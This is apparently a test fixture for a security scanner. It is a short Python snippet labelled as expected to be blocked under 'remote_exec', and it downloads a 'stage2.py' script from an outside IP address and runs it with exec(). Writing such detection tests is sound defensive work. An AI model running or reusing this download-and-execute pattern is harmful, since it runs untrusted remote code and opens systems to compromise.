# expect: BLOCKED category: remote_exec
# Downloads Python code and executes it.
import requests

source = requests.get("https://203.0.113.4/stage2.py", timeout=10).text
exec(source)
